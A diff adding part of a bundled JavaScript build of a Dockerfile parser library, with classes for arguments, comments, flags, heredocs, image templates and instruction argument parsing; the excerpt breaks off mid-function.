@@ -1,6 +1,4207 @@
 import './sourcemap-register.cjs';import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
 /******/ var __webpack_modules__ = ({
 
+/***/ 5940:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Argument = void 0;
+class Argument {
+    constructor(value, range) {
+        this.value = value;
+        this.range = range;
+    }
+    toString() {
+        return this.value;
+    }
+    getRange() {
+        return this.range;
+    }
+    getValue() {
+        return this.value;
+    }
+    isAfter(position) {
+        if (this.range.end.line < position.line) {
+            return false;
+        }
+        return this.range.start.line > position.line ? true : this.range.start.character > position.character;
+    }
+    isBefore(position) {
+        if (this.range.start.line < position.line) {
+            return true;
+        }
+        return this.range.end.line > position.line ? false : this.range.end.character < position.character;
+    }
+}
+exports.Argument = Argument;
+
+
+/***/ }),
+
+/***/ 4022:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Comment = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const line_1 = __nccwpck_require__(7005);
+const util_1 = __nccwpck_require__(7459);
+class Comment extends line_1.Line {
+    constructor(document, range) {
+        super(document, range);
+    }
+    toString() {
+        const content = this.getContent();
+        if (content) {
+            return "# " + content;
+        }
+        return "#";
+    }
+    /**
+     * Returns the content of this comment. This excludes leading and
+     * trailing whitespace as well as the # symbol. If the comment only
+     * consists of whitespace, the empty string will be returned.
+     */
+    getContent() {
+        let range = this.getContentRange();
+        if (range === null) {
+            return "";
+        }
+        return this.document.getText().substring(this.document.offsetAt(range.start), this.document.offsetAt(range.end));
+    }
+    /**
+     * Returns a range that includes the content of the comment
+     * excluding any leading and trailing whitespace as well as the #
+     * symbol. May return null if the comment only consists of whitespace
+     * characters.
+     */
+    getContentRange() {
+        let range = this.getRange();
+        const startOffset = this.document.offsetAt(range.start);
+        let raw = this.document.getText().substring(startOffset, this.document.offsetAt(range.end));
+        let start = -1;
+        let end = -1;
+        // skip the first # symbol
+        for (let i = 1; i < raw.length; i++) {
+            if (!util_1.Util.isWhitespace(raw.charAt(i))) {
+                start = i;
+                break;
+            }
+        }
+        if (start === -1) {
+            return null;
+        }
+        // go backwards up to the first # symbol
+        for (let i = raw.length - 1; i >= 1; i--) {
+            if (!util_1.Util.isWhitespace(raw.charAt(i))) {
+                end = i + 1;
+                break;
+            }
+        }
+        return vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + start), this.document.positionAt(startOffset + end));
+    }
+}
+exports.Comment = Comment;
+
+
+/***/ }),
+
+/***/ 9933:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+/* --------------------------------------------------------------------------------------------
+ * Copyright (c) Remy Suen. All rights reserved.
+ * Licensed under the MIT License. See License.txt in the project root for license information.
+ * ------------------------------------------------------------------------------------------ */
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Dockerfile = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const ast = __nccwpck_require__(8390);
+const imageTemplate_1 = __nccwpck_require__(3520);
+const from_1 = __nccwpck_require__(5377);
+const util_1 = __nccwpck_require__(7459);
+const main_1 = __nccwpck_require__(8390);
+class Dockerfile extends imageTemplate_1.ImageTemplate {
+    constructor(document) {
+        super();
+        this.initialInstructions = new imageTemplate_1.ImageTemplate();
+        this.buildStages = [];
+        this.directives = [];
+        /**
+         * Whether a FROM instruction has been added to this Dockerfile or not.
+         */
+        this.foundFrom = false;
+        this.document = document;
+    }
+    getEscapeCharacter() {
+        for (const directive of this.directives) {
+            if (directive.getDirective() === ast.Directive.escape) {
+                const value = directive.getValue();
+                if (value === '\\' || value === '`') {
+                    return value;
+                }
+            }
+        }
+        return '\\';
+    }
+    getInitialARGs() {
+        return this.initialInstructions.getARGs();
+    }
+    getContainingImage(position) {
+        let range = vscode_languageserver_types_1.Range.create(vscode_languageserver_types_1.Position.create(0, 0), this.document.positionAt(this.document.getText().length));
+        if (!util_1.Util.isInsideRange(position, range)) {
+            // not inside the document, invalid position
+            return null;
+        }
+        if (this.initialInstructions.getComments().length > 0 || this.initialInstructions.getInstructions().length > 0) {
+            if (util_1.Util.isInsideRange(position, this.initialInstructions.getRange())) {
+                return this.initialInstructions;
+            }
+        }
+        for (const buildStage of this.buildStages) {
+            if (util_1.Util.isInsideRange(position, buildStage.getRange())) {
+                return buildStage;
+            }
+        }
+        return this;
+    }
+    addInstruction(instruction) {
+        if (instruction.getKeyword() === main_1.Keyword.FROM) {
+            this.currentBuildStage = new imageTemplate_1.ImageTemplate();
+            this.buildStages.push(this.currentBuildStage);
+            this.foundFrom = true;
+        }
+        else if (!this.foundFrom) {
+            this.initialInstructions.addInstruction(instruction);
+        }
+        if (this.foundFrom) {
+            this.currentBuildStage.addInstruction(instruction);
+        }
+        super.addInstruction(instruction);
+    }
+    setDirectives(directives) {
+        this.directives = directives;
+    }
+    getDirective() {
+        return this.directives.length === 0 ? null : this.directives[0];
+    }
+    getDirectives() {
+        return this.directives;
+    }
+    resolveVariable(variable, line) {
+        for (let from of this.getFROMs()) {
+            let range = from.getRange();
+            if (range.start.line <= line && line <= range.end.line) {
+                // resolve the FROM variable against the initial ARGs
+                let initialARGs = new imageTemplate_1.ImageTemplate();
+                for (let instruction of this.initialInstructions.getARGs()) {
+                    initialARGs.addInstruction(instruction);
+                }
+                return initialARGs.resolveVariable(variable, line);
+            }
+        }
+        let image = this.getContainingImage(vscode_languageserver_types_1.Position.create(line, 0));
+        if (image === null) {
+            return undefined;
+        }
+        let resolvedVariable = image.resolveVariable(variable, line);
+        if (resolvedVariable === null) {
+            // refers to an uninitialized ARG variable,
+            // try resolving it against the initial ARGs then
+            let initialARGs = new imageTemplate_1.ImageTemplate();
+            for (let instruction of this.initialInstructions.getARGs()) {
+                initialARGs.addInstruction(instruction);
+            }
+            return initialARGs.resolveVariable(variable, line);
+        }
+        return resolvedVariable;
+    }
+    getAvailableVariables(currentLine) {
+        if (this.getInstructionAt(currentLine) instanceof from_1.From) {
+            let variables = [];
+            for (let arg of this.getInitialARGs()) {
+                let property = arg.getProperty();
+                if (property) {
+                    variables.push(property.getName());
+                }
+            }
+            return variables;
+        }
+        let image = this.getContainingImage(vscode_languageserver_types_1.Position.create(currentLine, 0));
+        return image ? image.getAvailableVariables(currentLine) : [];
+    }
+    getParentStage(image) {
+        const templateFrom = image.getFROM();
+        const imageName = templateFrom === null ? null : templateFrom.getImageName();
+        if (imageName === null) {
+            return null;
+        }
+        for (const from of this.getFROMs()) {
+            if (from.getBuildStage() === imageName) {
+                const range = from.getRange();
+                // on the same line then it's an image that shares the name as the build stage
+                if (range.start.line === templateFrom.getRange().start.line) {
+                    return null;
+                }
+                return this.getContainingImage(range.start);
+            }
+        }
+        return null;
+    }
+    getStageHierarchy(line) {
+        const image = this.getContainingImage(vscode_languageserver_types_1.Position.create(line, 0));
+        if (image === null) {
+            return [];
+        }
+        const stages = [image];
+        let stage = this.getParentStage(image);
+        while (stage !== null) {
+            stages.splice(0, 0, stage);
+            stage = this.getParentStage(stage);
+        }
+        return stages;
+    }
+    getAvailableWorkingDirectories(line) {
+        const availableDirectories = new Set();
+        for (const image of this.getStageHierarchy(line)) {
+            for (const workdir of image.getWORKDIRs()) {
+                if (workdir.getRange().end.line < line) {
+                    let directory = workdir.getAbsolutePath();
+                    if (directory !== undefined && directory !== null) {
+                        if (!directory.endsWith("/")) {
+                            directory += "/";
+                        }
+                        availableDirectories.add(directory);
+                    }
+                }
+            }
+        }
+        return Array.from(availableDirectories);
+    }
+    /**
+     * Internally reorganize the comments in the Dockerfile and allocate
+     * them to the relevant build stages that they belong to.
+     */
+    organizeComments() {
+        const comments = this.getComments();
+        for (let i = 0; i < comments.length; i++) {
+            if (util_1.Util.isInsideRange(comments[i].getRange().end, this.initialInstructions.getRange())) {
+                this.initialInstructions.addComment(comments[i]);
+            }
+            else {
+                for (const buildStage of this.buildStages) {
+                    if (util_1.Util.isInsideRange(comments[i].getRange().start, buildStage.getRange())) {
+                        buildStage.addComment(comments[i]);
+                    }
+                }
+            }
+        }
+    }
+    getRange() {
+        const comments = this.getComments();
+        const instructions = this.getInstructions();
+        let range = null;
+        if (comments.length === 0) {
+            if (instructions.length > 0) {
+                range = vscode_languageserver_types_1.Range.create(instructions[0].getRange().start, instructions[instructions.length - 1].getRange().end);
+            }
+        }
+        else if (instructions.length === 0) {
+            range = vscode_languageserver_types_1.Range.create(comments[0].getRange().start, comments[comments.length - 1].getRange().end);
+        }
+        else {
+            const commentStart = comments[0].getRange().start;
+            const commentEnd = comments[comments.length - 1].getRange().end;
+            const instructionStart = instructions[0].getRange().start;
+            const instructionEnd = instructions[instructions.length - 1].getRange().end;
+            if (commentStart.line < instructionStart.line) {
+                if (commentEnd.line < instructionEnd.line) {
+                    range = vscode_languageserver_types_1.Range.create(commentStart, instructionEnd);
+                }
+                range = vscode_languageserver_types_1.Range.create(commentStart, commentEnd);
+            }
+            else if (commentEnd.line < instructionEnd.line) {
+                range = vscode_languageserver_types_1.Range.create(instructionStart, instructionEnd);
+            }
+            else {
+                range = vscode_languageserver_types_1.Range.create(instructionStart, commentEnd);
+            }
+        }
+        if (range === null) {
+            if (this.directives.length === 0) {
+                return null;
+            }
+            return this.directives[0].getRange();
+        }
+        else if (this.directives.length === 0) {
+            return range;
+        }
+        return vscode_languageserver_types_1.Range.create(this.directives[0].getRange().start, range.end);
+    }
+}
+exports.Dockerfile = Dockerfile;
+
+
+/***/ }),
+
+/***/ 1077:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Flag = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const flagOption_1 = __nccwpck_require__(3700);
+class Flag {
+    constructor(document, range, name, nameRange, value, valueRange) {
+        this.options = [];
+        this.range = range;
+        this.name = name;
+        this.nameRange = nameRange;
+        this.value = value;
+        this.valueRange = valueRange;
+        if (this.value !== null) {
+            let offset = document.offsetAt(valueRange.start);
+            let nameStart = -1;
+            let valueStart = -1;
+            let hasOptions = false;
+            for (let i = 0; i < value.length; i++) {
+                switch (value.charAt(i)) {
+                    case '=':
+                        hasOptions = true;
+                        if (valueStart === -1) {
+                            valueStart = i + 1;
+                            break;
+                        }
+                        break;
+                    case ',':
+                        this.options.push(this.createFlagOption(document, value, offset, nameStart, valueStart, i));
+                        nameStart = -1;
+                        valueStart = -1;
+                        break;
+                    default:
+                        if (nameStart === -1) {
+                            nameStart = i;
+                        }
+                        break;
+                }
+            }
+            if (hasOptions && nameStart !== -1) {
+                this.options.push(this.createFlagOption(document, value, offset, nameStart, valueStart, value.length));
+            }
+        }
+    }
+    createFlagOption(document, content, documentOffset, nameStart, valueStart, valueEnd) {
+        const optionRange = vscode_languageserver_types_1.Range.create(document.positionAt(documentOffset + nameStart), document.positionAt(documentOffset + valueEnd));
+        if (valueStart === -1) {
+            return new flagOption_1.FlagOption(optionRange, content.substring(nameStart, valueEnd), optionRange, null, null);
+        }
+        return new flagOption_1.FlagOption(optionRange, content.substring(nameStart, valueStart - 1), vscode_languageserver_types_1.Range.create(document.positionAt(documentOffset + nameStart), document.positionAt(documentOffset + valueStart - 1)), content.substring(valueStart, valueEnd), vscode_languageserver_types_1.Range.create(document.positionAt(documentOffset + valueStart), document.positionAt(documentOffset + valueEnd)));
+    }
+    toString() {
+        if (this.valueRange) {
+            return "--" + this.name + "=" + this.value;
+        }
+        return "--" + this.name;
+    }
+    /**
+     * Returns the range that encompasses this entire flag. This includes the
+     * -- prefix in the beginning to the last character of the flag's value (if
+     * it has been defined).
+     *
+     * @return the entire range of this flag
+     */
+    getRange() {
+        return this.range;
+    }
+    /**
+     * Returns the name of this flag. The name does not include the -- prefix.
+     * Thus, for HEALTHCHECK's --interval flag, interval is the flag's name and
+     * not --interval.
+     *
+     * @return this flag's name
+     */
+    getName() {
+        return this.name;
+    }
+    /**
+     * Returns the range that encompasses the flag's name
+     *
+     * @return the range containing the flag's name
+     */
+    getNameRange() {
+        return this.nameRange;
+    }
+    /**
+     * Returns the value that has been set to this flag. May be null if the
+     * flag is invalid and has no value set like a --start-period. If the flag
+     * is instead a --start-period= with an equals sign then the flag's value
+     * is the empty string.
+     *
+     * @return this flag's value if it has been defined, null otherwise
+     */
+    getValue() {
+        return this.value;
+    }
+    /**
+     * Returns the range that encompasses this flag's value. If no value has
+     * been set then null will be returned.
+     *
+     * @return the range containing this flag's value, or null if the flag
+     *         has no value defined
+     */
+    getValueRange() {
+        return this.valueRange;
+    }
+    getOption(name) {
+        for (const option of this.options) {
+            if (option.getName() === name) {
+                return option;
+            }
+        }
+        return null;
+    }
+    getOptions() {
+        return this.options;
+    }
+    hasOptions() {
+        return this.options.length > 0;
+    }
+}
+exports.Flag = Flag;
+
+
+/***/ }),
+
+/***/ 3700:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.FlagOption = void 0;
+class FlagOption {
+    constructor(range, name, nameRange, value, valueRange) {
+        this.range = range;
+        this.name = name;
+        this.nameRange = nameRange;
+        this.value = value;
+        this.valueRange = valueRange;
+    }
+    toString() {
+        if (this.valueRange !== null) {
+            return this.name + "=" + this.value;
+        }
+        return this.name;
+    }
+    getRange() {
+        return this.range;
+    }
+    getName() {
+        return this.name;
+    }
+    getNameRange() {
+        return this.nameRange;
+    }
+    getValue() {
+        return this.value;
+    }
+    getValueRange() {
+        return this.valueRange;
+    }
+}
+exports.FlagOption = FlagOption;
+
+
+/***/ }),
+
+/***/ 7599:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Heredoc = void 0;
+/**
+ * Heredoc represents a here-document that has been embedded in a
+ * Dockerfile.
+ *
+ * This API is experimental and subject to change.
+ */
+class Heredoc {
+    constructor(startRange, name, nameRange, contentRange, endRange) {
+        this.startRange = startRange;
+        this.name = name;
+        this.nameRange = nameRange;
+        this.contentRange = contentRange;
+        this.endRange = endRange;
+    }
+    /**
+     * Returns the name of the here-document.
+     *
+     * This API is experimental and subject to change.
+     */
+    getName() {
+        return this.name;
+    }
+    /**
+     * Returns the range of the start operator and the name. If the
+     * here-document is initialized with <<EOT then the start range would
+     * encompass all five characters.
+     *
+     * This API is experimental and subject to change.
+     */
+    getStartRange() {
+        return this.startRange;
+    }
+    /**
+     * Returns the range of this here-document's name that is declared at
+     * the beginning of the here-document with the operator. If the
+     * here-document is initialized with <<EOT then the name range would
+     * encompass the latter three "EOT" characters.
+     *
+     * This API is experimental and subject to change.
+     */
+    getNameRange() {
+        return this.nameRange;
+    }
+    /**
+     * Returns the range of the content of this here-document. This may
+     * be null if the here-document has no content because:
+     * - the start range is the only thing that was declared
+     * - the end range was declared immediately and there is no content
+     *
+     * This API is experimental and subject to change.
+     */
+    getContentRange() {
+        return this.contentRange;
+    }
+    /**
+     * Returns the range of the here-document's name on a line that
+     * represents the end of the here-document.
+     *
+     * This API is experimental and subject to change.
+     */
+    getDelimiterRange() {
+        return this.endRange;
+    }
+}
+exports.Heredoc = Heredoc;
+
+
+/***/ }),
+
+/***/ 3520:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+/* --------------------------------------------------------------------------------------------
+ * Copyright (c) Remy Suen. All rights reserved.
+ * Licensed under the MIT License. See License.txt in the project root for license information.
+ * ------------------------------------------------------------------------------------------ */
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ImageTemplate = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const arg_1 = __nccwpck_require__(4381);
+const cmd_1 = __nccwpck_require__(5517);
+const copy_1 = __nccwpck_require__(444);
+const env_1 = __nccwpck_require__(1822);
+const entrypoint_1 = __nccwpck_require__(1835);
+const from_1 = __nccwpck_require__(5377);
+const healthcheck_1 = __nccwpck_require__(1167);
+const onbuild_1 = __nccwpck_require__(5554);
+const util_1 = __nccwpck_require__(7459);
+const workdir_1 = __nccwpck_require__(7529);
+class ImageTemplate {
+    constructor() {
+        this.comments = [];
+        this.instructions = [];
+    }
+    addComment(comment) {
+        this.comments.push(comment);
+    }
+    getComments() {
+        return this.comments;
+    }
+    addInstruction(instruction) {
+        this.instructions.push(instruction);
+    }
+    getInstructions() {
+        return this.instructions;
+    }
+    getInstructionAt(line) {
+        for (let instruction of this.instructions) {
+            if (util_1.Util.isInsideRange(vscode_languageserver_types_1.Position.create(line, 0), instruction.getRange())) {
+                return instruction;
+            }
+        }
+        return null;
+    }
+    /**
+     * Gets all the ARG instructions that are defined in this image.
+     */
+    getARGs() {
+        let args = [];
+        for (let instruction of this.instructions) {
+            if (instruction instanceof arg_1.Arg) {
+                args.push(instruction);
+            }
+        }
+        return args;
+    }
+    /**
+     * Gets all the CMD instructions that are defined in this image.
+     */
+    getCMDs() {
+        let cmds = [];
+        for (let instruction of this.instructions) {
+            if (instruction instanceof cmd_1.Cmd) {
+                cmds.push(instruction);
+            }
+        }
+        return cmds;
+    }
+    /**
+     * Gets all the COPY instructions that are defined in this image.
+     */
+    getCOPYs() {
+        let copies = [];
+        for (let instruction of this.instructions) {
+            if (instruction instanceof copy_1.Copy) {
+                copies.push(instruction);
+            }
+        }
+        return copies;
+    }
+    /**
+     * Gets all the ENTRYPOINT instructions that are defined in this image.
+     */
+    getENTRYPOINTs() {
+        let froms = [];
+        for (let instruction of this.instructions) {
+            if (instruction instanceof entrypoint_1.Entrypoint) {
+                froms.push(instruction);
+            }
+        }
+        return froms;
+    }
+    /**
+     * Gets all the ENV instructions that are defined in this image.
+     */
+    getENVs() {
+        let args = [];
+        for (let instruction of this.instructions) {
+            if (instruction instanceof env_1.Env) {
+                args.push(instruction);
+            }
+        }
+        return args;
+    }
+    getFROM() {
+        for (const instruction of this.instructions) {
+            if (instruction instanceof from_1.From) {
+                return instruction;
+            }
+        }
+        return null;
+    }
+    /**
+     * Gets all the FROM instructions that are defined in this image.
+     */
+    getFROMs() {
+        let froms = [];
+        for (let instruction of this.instructions) {
+            if (instruction instanceof from_1.From) {
+                froms.push(instruction);
+            }
+        }
+        return froms;
+    }
+    /**
+     * Gets all the HEALTHCHECK instructions that are defined in this image.
+     */
+    getHEALTHCHECKs() {
+        let froms = [];
+        for (let instruction of this.instructions) {
+            if (instruction instanceof healthcheck_1.Healthcheck) {
+                froms.push(instruction);
+            }
+        }
+        return froms;
+    }
+    getWORKDIRs() {
+        const workdirs = [];
+        for (const instruction of this.instructions) {
+            if (instruction instanceof workdir_1.Workdir) {
+                workdirs.push(instruction);
+            }
+        }
+        return workdirs;
+    }
+    getOnbuildTriggers() {
+        let triggers = [];
+        for (let instruction of this.instructions) {
+            if (instruction instanceof onbuild_1.Onbuild) {
+                let trigger = instruction.getTriggerInstruction();
+                if (trigger) {
+                    triggers.push(trigger);
+                }
+            }
+        }
+        return triggers;
+    }
+    getAvailableVariables(currentLine) {
+        const variables = [];
+        for (const arg of this.getARGs()) {
+            if (arg.isBefore(currentLine)) {
+                const property = arg.getProperty();
+                if (property) {
+                    const variable = property.getName();
+                    if (variables.indexOf(variable) === -1) {
+                        variables.push(variable);
+                    }
+                }
+            }
+        }
+        for (const env of this.getENVs()) {
+            if (env.isBefore(currentLine)) {
+                for (const property of env.getProperties()) {
+                    const variable = property.getName();
+                    if (variables.indexOf(variable) === -1) {
+                        variables.push(variable);
+                    }
+                }
+            }
+        }
+        return variables;
+    }
+    /**
+     * Resolves a variable with the given name at the specified line
+     * to its value. If null is returned, then the variable has been
+     * defined but no value was given. If undefined is returned, then
+     * a variable with the given name has not been defined yet as of
+     * the given line.
+     *
+     * @param variable the name of the variable to resolve
+     * @param line the line number that the variable is on, zero-based
+     * @return the value of the variable as defined by an ARG or ENV
+     *         instruction, or null if no value has been specified, or
+     *         undefined if a variable with the given name has not
+     *         been defined
+     */
+    resolveVariable(variable, line) {
+        let envs = this.getENVs();
+        for (let i = envs.length - 1; i >= 0; i--) {
+            if (envs[i].isBefore(line)) {
+                for (let property of envs[i].getProperties()) {
+                    if (property.getName() === variable) {
+                        return property.getValue();
+                    }
+                }
+            }
+        }
+        let args = this.getARGs();
+        for (let i = args.length - 1; i >= 0; i--) {
+            if (args[i].isBefore(line)) {
+                let property = args[i].getProperty();
+                if (property && property.getName() === variable) {
+                    return property.getValue();
+                }
+            }
+        }
+        return undefined;
+    }
+    getRange() {
+        const instructions = this.getInstructions();
+        if (instructions.length === 0) {
+            // all templates should have instructions, this only happens for
+            // the initial set of instruction
+            return vscode_languageserver_types_1.Range.create(0, 0, 0, 0);
+        }
+        const instructionStart = instructions[0].getRange().start;
+        const instructionEnd = instructions[instructions.length - 1].getRange().end;
+        return vscode_languageserver_types_1.Range.create(instructionStart, instructionEnd);
+    }
+    contains(position) {
+        const range = this.getRange();
+        if (range === null) {
+            return false;
+        }
+        return util_1.Util.isInsideRange(position, range);
+    }
+}
+exports.ImageTemplate = ImageTemplate;
+
+
+/***/ }),
+
+/***/ 5279:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Instruction = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const util_1 = __nccwpck_require__(7459);
+const line_1 = __nccwpck_require__(7005);
+const argument_1 = __nccwpck_require__(5940);
+const heredoc_1 = __nccwpck_require__(7599);
+const variable_1 = __nccwpck_require__(3743);
+const main_1 = __nccwpck_require__(8390);
+class Instruction extends line_1.Line {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range);
+        this.dockerfile = dockerfile;
+        this.escapeChar = escapeChar;
+        this.instruction = instruction;
+        this.instructionRange = instructionRange;
+    }
+    toString() {
+        let value = this.getKeyword();
+        for (let arg of this.getRawArguments()) {
+            value += ' ';
+            value += arg.getValue();
+        }
+        return value;
+    }
+    getRangeContent(range) {
+        if (range === null) {
+            return null;
+        }
+        return this.document.getText().substring(this.document.offsetAt(range.start), this.document.offsetAt(range.end));
+    }
+    getInstructionRange() {
+        return this.instructionRange;
+    }
+    getInstruction() {
+        return this.instruction;
+    }
+    getKeyword() {
+        return this.getInstruction().toUpperCase();
+    }
+    getArgumentsRange() {
+        let args = this.getArguments();
+        if (args.length === 0) {
+            return null;
+        }
+        return vscode_languageserver_types_1.Range.create(args[0].getRange().start, args[args.length - 1].getRange().end);
+    }
+    getArgumentsRanges() {
+        let args = this.getArguments();
+        if (args.length === 0) {
+            return [];
+        }
+        if (args[0].getRange().start.line === args[args.length - 1].getRange().end.line) {
+            return [vscode_languageserver_types_1.Range.create(args[0].getRange().start, args[args.length - 1].getRange().end)];
+        }
+        let ranges = [];
+        let end = -1;
+        let startPosition = args[0].getRange().start;
+        let range = this.getInstructionRange();
+        let extra = this.document.offsetAt(startPosition) - this.document.offsetAt(range.start);
+        let content = this.getTextContent();
+        let fullArgs = content.substring(extra, this.document.offsetAt(args[args.length - 1].getRange().end) - this.document.offsetAt(range.start));
+        let offset = this.document.offsetAt(range.start) + extra;
+        let start = false;
+        let comment = false;
+        for (let i = 0; i < fullArgs.length; i++) {
+            let char = fullArgs.charAt(i);
+            if (char === this.escapeChar) {
+                let next = fullArgs.charAt(i + 1);
+                if (next === ' ' || next === '\t') {
+                    whitespaceCheck: for (let j = i + 2; j < fullArgs.length; j++) {
+                        switch (fullArgs.charAt(j)) {
+                            case ' ':
+                            case '\t':
+                                continue;
+                            case '\r':
+                                j++;
+                            case '\n':
+                                if (startPosition !== null) {
+                                    ranges.push(vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(offset + end + 1)));
+                                }
+                                startPosition = null;
+                                start = true;
+                                comment = false;
+                                i = j;
+                                break whitespaceCheck;
+                            default:
+                                break whitespaceCheck;
+                        }
+                    }
+                }
+                else if (next === '\r') {
+                    if (startPosition !== null) {
+                        ranges.push(vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(offset + end + 1)));
+                        startPosition = null;
+                    }
+                    start = true;
+                    comment = false;
+                    i += 2;
+                }
+                else if (next === '\n') {
+                    if (startPosition !== null) {
+                        ranges.push(vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(offset + end + 1)));
+                    }
+                    startPosition = null;
+                    start = true;
+                    comment = false;
+                    i++;
+                }
+                else {
+                    i++;
+                }
+            }
+            else if (util_1.Util.isNewline(char)) {
+                if (comment) {
+                    startPosition = null;
+                    start = true;
+                    comment = false;
+                }
+            }
+            else {
+                if (!comment) {
+                    if (startPosition === null) {
+                        if (char === '#') {
+                            comment = true;
+                            continue;
+                        }
+                        let position = this.document.positionAt(offset + i);
+                        if (position.character !== 0) {
+                            startPosition = vscode_languageserver_types_1.Position.create(position.line, 0);
+                        }
+                    }
+                    end = i;
+                }
+            }
+        }
+        if (startPosition === null) {
+            // should only happen if the last argument is on its own line with
+            // no leading whitespace
+            ranges.push(vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + end), this.document.positionAt(offset + end + 1)));
+        }
+        else {
+            ranges.push(vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(offset + end + 1)));
+        }
+        return ranges;
+    }
+    getRawArgumentsContent() {
+        let args = this.getArguments();
+        if (args.length === 0) {
+            return null;
+        }
+        return this.getRangeContent(vscode_languageserver_types_1.Range.create(args[0].getRange().start, args[args.length - 1].getRange().end));
+    }
+    getArgumentsContent() {
+        let args = this.getArguments();
+        if (args.length === 0) {
+            return null;
+        }
+        let content = "";
+        let ranges = this.getArgumentsRanges();
+        let documentText = this.document.getText();
+        for (let range of ranges) {
+            content += documentText.substring(this.document.offsetAt(range.start), this.document.offsetAt(range.end));
+        }
+        return content;
+    }
+    getArguments() {
+        return this.getRawArguments();
+    }
+    getRawArguments() {
+        let args = [];
+        let range = this.getInstructionRange();
+        let extra = this.document.offsetAt(range.end) - this.document.offsetAt(range.start);
+        let content = this.getTextContent();
+        let fullArgs = content.substring(extra);
+        let offset = this.document.offsetAt(range.start) + extra;
+        let start = false;
+        let comment = false;
+        let found = -1;
+        // determines whether the parser has found a space or tab
+        // whitespace character that's a part of an escaped newline sequence
+        let escapedWhitespaceDetected = false;
+        // determines if the parser is currently in an escaped newline sequence
+        let escaping = false;
+        let escapeMarker = -1;
+        let escapedArg = "";
+        for (let i = 0; i < fullArgs.length; i++) {
+            let char = fullArgs.charAt(i);
+            if (util_1.Util.isWhitespace(char)) {
+                if (escaping) {
+                    escapedWhitespaceDetected = true;
+                    if (util_1.Util.isNewline(char)) {
+                        // reached a newline, any previously
+                        // detected whitespace should be ignored
+                        escapedWhitespaceDetected = false;
+                        if (comment) {
+                            // reached a newline, no longer in a comment
+                            comment = false;
+                            start = true;
+                        }
+                    }
+                    continue;
+                }
+                else if (found !== -1) {
+                    if (escapeMarker === -1) {
+                        args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + i))));
+                    }
+                    else {
+                        args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + escapeMarker))));
+                    }
+                    escapeMarker = -1;
+                    escapedArg = "";
+                    found = -1;
+                }
+            }
+            else if (char === this.escapeChar) {
+                let next = fullArgs.charAt(i + 1);
+                if (next === ' ' || next === '\t') {
+                    whitespaceCheck: for (let j = i + 2; j < fullArgs.length; j++) {
+                        let newlineCheck = fullArgs.charAt(j);
+                        switch (newlineCheck) {
+                            case ' ':
+                            case '\t':
+                                continue;
+                            case '\r':
+                                j++;
+                            case '\n':
+                                comment = false;
+                                escaping = true;
+                                start = true;
+                                if (found !== -1) {
+                                    escapeMarker = i;
+                                }
+                                i = j;
+                                break whitespaceCheck;
+                            default:
+                                escapeMarker = i;
+                                if (found === -1) {
+                                    i = j - 1;
+                                }
+                                break whitespaceCheck;
+                        }
+                    }
+                }
+                else if (next === '\r') {
+                    comment = false;
+                    escaping = true;
+                    start = true;
+                    if (found !== -1 && escapeMarker === -1) {
+                        escapeMarker = i;
+                    }
+                    i += 2;
+                }
+                else if (next === '\n') {
+                    comment = false;
+                    escaping = true;
+                    start = true;
+                    if (found !== -1 && escapeMarker === -1) {
+                        escapeMarker = i;
+                    }
+                    i++;
+                }
+                else {
+                    if (escapedWhitespaceDetected && escapeMarker !== -1) {
+                        args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + escapeMarker))));
+                        escapedArg = "";
+                        found = -1;
+                    }
+                    escapeMarker = -1;
+                    escapedWhitespaceDetected = false;
+                    escaping = false;
+                    if (next === '$') {
+                        escapedArg = escapedArg + char + next;
+                    }
+                    else if (next === '') {
+                        // reached EOF, stop processing
+                        break;
+                    }
+                    else {
+                        escapedArg = escapedArg + next;
+                    }
+                    if (found === -1) {
+                        found = i;
+                    }
+                    i++;
+                }
+            }
+            else if (!comment) {
+                if (start && char === '#') {
+                    comment = true;
+                }
+                else {
+                    if (escapedWhitespaceDetected && escapeMarker !== -1) {
+                        args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + escapeMarker))));
+                        escapedArg = "";
+                        found = -1;
+                    }
+                    escapedWhitespaceDetected = false;
+                    escaping = false;
+                    escapeMarker = -1;
+                    escapedArg = escapedArg + char;
+                    if (found === -1) {
+                        found = i;
+                    }
+                }
+                // non-whitespace character detected, reset
+                start = false;
+            }
+        }
+        if (found !== -1) {
+            if (escapeMarker === -1) {
